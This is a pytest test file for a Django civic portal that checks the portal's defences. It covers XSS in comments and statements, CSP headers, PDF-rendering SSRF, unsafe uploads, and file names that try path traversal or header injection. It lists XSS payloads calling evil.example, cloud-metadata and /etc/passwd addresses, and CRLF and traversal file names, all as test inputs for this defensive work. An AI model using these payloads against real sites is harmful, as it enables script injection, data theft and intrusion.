"""Attempts through what is typed, sent and uploaded, by the rows of docs/trust.md."""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import path as route
from django.utils.html import escape
from pikepdf import Name, Pdf

from portal.models import Attachment
from portal.pdf.problems import RenderProblem
from portal.pdf.rendering import render_pdf
from tests.conftest import BACKEND
from tests.crawl import addresses, crawl, within
from tests.discussions import a_thread, an_issue
from tests.portal.intake.samples import pdf, picture, saved
from tests.statements.editor import edit_url, fields, imported, names, press
from tests.trust.page_reading import dangers

pytestmark = pytest.mark.django_db
CHECKOUT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    "<script>evil()</script>",
    '<img src="https://evil.example/x" onerror="evil()">',
    '<svg onload="evil()"><a xlink:href="javascript:evil()">x</a></svg>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=evil()></style>',
    '<noscript><p title="</noscript><img src=x onerror=evil()>">',
    '<div hx-get="https://evil.example" hx-trigger="load" hx-on:load="evil()">x</div>',
    '<p style="background: url(https://evil.example)">x</p>',
    "[x](javascript:evil())",
    "[x](//evil.example/a)",
    "![x](https://evil.example/x.png)",
    '"><iframe srcdoc="<script>evil()</script>"></iframe>',
    "</textarea><script>evil()</script>",
    '<base href="https://evil.example/"><form action="https://evil.example">',
    '<a href="java\nscript:evil()">x</a><a href="data:text/html,evil()">y</a>',
]
POLICY = [
    "base-uri 'none'",
    "connect-src 'self'",
    "default-src 'none'",
    "font-src 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "img-src 'self' data:",
    "object-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
]
LOADS = ['<img src="{}" alt="x">', '<link rel="attachment" href="{}">']
SANDBOX = ["default-src 'none'", "sandbox"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_e1_a_comment_runs_nothing(payload, mayor, chief, signed_in):
    thread = a_thread(an_issue(title=payload[:80]), mayor)
    client = signed_in(chief)
    sent = client.post(f"/threads/{thread.pk}/", {"text": f"Before {payload} after"})
    page = client.get(f"/threads/{thread.pk}/")

    assert sent.status_code == 302
    assert lacking(page.text) == []
    assert dangers(page.text) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_e1_a_passage_runs_nothing(payload, publisher, mayor, aide, signed_in):
    city = mayor.current_seats[0].organization
    draft = imported(city, publisher.current_seats[0].organization)
    client = signed_in(aide)
    sent = fields(client.get(edit_url(draft)).text)
    for name in names(sent):
        sent[f"text-{name}"] = f"Before {payload} after"
        sent[f"speaker-{name}"] = payload[:80]
    saved = press(client, edit_url(draft), sent, "save")
    pages = [client.get(f"/statements/{draft.ref}/{part}") for part in ("", "edit/", "versions/")]

    assert saved.status_code == 302
    assert [lacking(page.text) for page in pages] == [[], [], []]
    assert [dangers(page.text) for page in pages] == [[], [], []]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_e1_a_background_runs_nothing(payload, publisher, signed_in):
    issue = an_issue()
    client = signed_in(publisher)
    written = f"Before {payload} after"
    typed = {"title": payload[:80], "background": written, "talking_points": written}
    saved = client.post(
        f"/roundtable/{issue.ref}/edit/",
        {**typed, "priority": issue.priority, "edition": issue.edition},
    )
    board, page = (client.get(f"/roundtable/{part}") for part in ("", f"{issue.ref}/"))

    assert saved.status_code == 302
    assert (lacking(page.text), dangers(page.text)) == ([], [])
    assert (escape(payload[:80]) in board.text, dangers(board.text)) == (True, [])


def lacking(page: str) -> list[str]:
    """What stood around a payload and is not shown: what is left out cannot run either."""
    return [word for word in ("Before", "after") if word not in page]


def test_e1_what_is_dangerous_is_seen():
    assert [dangers(payload) != [] for payload in PAYLOADS if payload.startswith("<")] == [
        True
    ] * sum(payload.startswith("<") for payload in PAYLOADS)


@pytest.mark.parametrize("role", ["nobody", "publisher"])
def test_e2_b8_every_answer_carries_the_policy(role, publisher, mayor):
    statement = imported(
        mayor.current_seats[0].organization, publisher.current_seats[0].organization
    )
    client = Client()
    if role == "publisher":
        client.force_login(publisher, backend=BACKEND)
    answers = crawl(within(client), addresses(statement.ref))
    without = [
        path
        for path, answer in answers.items()
        if sorted(answer.headers.get("content-security-policy", "").split("; "))
        not in (POLICY, SANDBOX)
        or answer.headers.get("x-frame-options") != "DENY"
        or answer.headers.get("x-content-type-options") != "nosniff"
    ]

    assert {answer.status for answer in answers.values()} > {200, 404}
    assert without == []


def breaks(request: object) -> None:
    raise ValueError("inside")


urlpatterns = [route("breaks/", breaks)]
handler500 = "portal.views.errors.server_error"


@override_settings(ROOT_URLCONF=__name__)
def test_e2_b8_a_defect_carries_the_policy_too(publisher):
    client = Client(raise_request_exception=False)
    client.force_login(publisher, backend=BACKEND)
    answer = client.get("/breaks/")

    assert (answer.status_code, answer["X-Frame-Options"]) == (500, "DENY")
    assert sorted(answer["Content-Security-Policy"].split("; ")) == POLICY


def test_e3_no_template_lets_htmx_evaluate():
    words = (
        "hx-on",
        "hx-vals='js",
        'hx-vals="js',
        "hx-vals='javascript",
        "hx-headers='js",
        "hx-ext",
    )
    templates = sorted((CHECKOUT / "templates").rglob("*.html"))
    found = [(path.name, word) for path in templates for word in words if word in path.read_text()]

    assert len(templates) > 100
    assert found == []


def test_e3_htmx_is_told_to_evaluate_nothing(client):
    settings = (CHECKOUT / "templates/components/htmx.html").read_text()

    for name in ('"allowEval":false', '"allowScriptTags":false', '"selfRequestsOnly":true'):
        assert settings.count(name) == 1


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "http://127.0.0.1/",
        "http://169.254.169.254/latest/meta-data/",
        "ftp://127.0.0.1/x",
    ],
)
@pytest.mark.parametrize("markup", LOADS)
def test_e4_a_document_loads_nothing_that_is_not_listed(address, markup):
    page = f'<!DOCTYPE html><html lang="en"><body><p>x</p>{markup.format(address)}</body></html>'

    with pytest.raises(RenderProblem):
        render_pdf(page, title="x")


@pytest.mark.parametrize("address", ["//127.0.0.1/x", "/etc/passwd", "../settings.py"])
@pytest.mark.parametrize("markup", LOADS)
def test_e4_an_address_without_a_beginning_leads_to_nothing(address, markup):
    bare = '<!DOCTYPE html><html lang="en"><body><p>x</p>{}</body></html>'
    made = render_pdf(bare.format(markup.format(address)), title="x")
    with Pdf.open(io.BytesIO(made)) as pdf:
        assert Name.Names not in pdf.Root or Name.EmbeddedFiles not in pdf.Root.Names
        assert [dict(page.get_images()) for page in pdf.pages] == [{}]


MARKUP = b"<html><script>evil()</script></html>"
DOWNLOAD = {
    "Content-Security-Policy": "sandbox; default-src 'none'",
    "X-Content-Type-Options": "nosniff",
}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.html", MARKUP),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"/>'),
        ("a.txt", MARKUP),
        ("a.pdf", MARKUP),
        ("a.png", b"\x89PNG\r\n\x1a\n" + MARKUP),
    ],
)
def test_e9_a_page_is_not_taken(name, data, publisher, mayor, aide, signed_in):
    draft = imported(mayor.current_seats[0].organization, publisher.current_seats[0].organization)
    file = SimpleUploadedFile(name, data)
    answer = signed_in(aide).post(f"/statements/{draft.ref}/files/", {"file": file})

    assert answer.status_code == 422
    assert Attachment.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "data", "kind", "is_kept"),
    [
        ("a.html", b"Notes " + MARKUP, "text/plain; charset=utf-8", True),
        ("a.csv", b"a,b\n1," + MARKUP, "text/csv; charset=utf-8", True),
        ("a.html", saved(pdf()) + MARKUP, "application/pdf", True),
        ("a.html", picture("PNG") + MARKUP, "image/png", False),
        ("a.svg", picture("JPEG") + MARKUP, "image/jpeg", False),
    ],
    ids=["text", "table", "pdf", "png", "jpeg"],
)
def test_e9_what_is_a_page_too_is_only_a_download(
    name, data, kind, is_kept, publisher, mayor, aide, signed_in
):
    draft = imported(mayor.current_seats[0].organization, publisher.current_seats[0].organization)
    client = signed_in(aide)
    client.post(f"/statements/{draft.ref}/files/", {"file": SimpleUploadedFile(name, data)})
    kept = Attachment.objects.get()
    answer = client.get(f"/attachments/{kept.pk}/")
    body = answer.getvalue()

    assert (answer["Content-Type"], kept.name.endswith((".html", ".svg"))) == (kind, False)
    assert answer["Content-Disposition"] == f'attachment; filename="{kept.name}"'
    assert {header: answer[header] for header in DOWNLOAD} == DOWNLOAD
    assert (body == data, MARKUP in body) == (is_kept, is_kept)


@pytest.mark.parametrize(
    "name", ["../../x.txt", 'a"\r\nX-Evil: 1.txt', "\u202etxt.exe.txt", "/etc/x.txt", "..\\x.txt"]
)
def test_e10_a_name_bends_neither_header_nor_path(name, publisher, mayor, aide, signed_in, files):
    draft = imported(mayor.current_seats[0].organization, publisher.current_seats[0].organization)
    client = signed_in(aide)
    client.post(f"/statements/{draft.ref}/files/", {"file": SimpleUploadedFile(name, b"Notes")})
    kept = Attachment.objects.get()
    answer = client.get(f"/attachments/{kept.pk}/")
    answer.getvalue()

    assert [sign for sign in ("/", "\\", '"', "\r", "\n", "\u202e") if sign in kept.name] == []
    assert answer.has_header("X-Evil") is False
    assert (files / kept.path).resolve().is_relative_to(files.resolve())
    assert kept.name not in kept.path
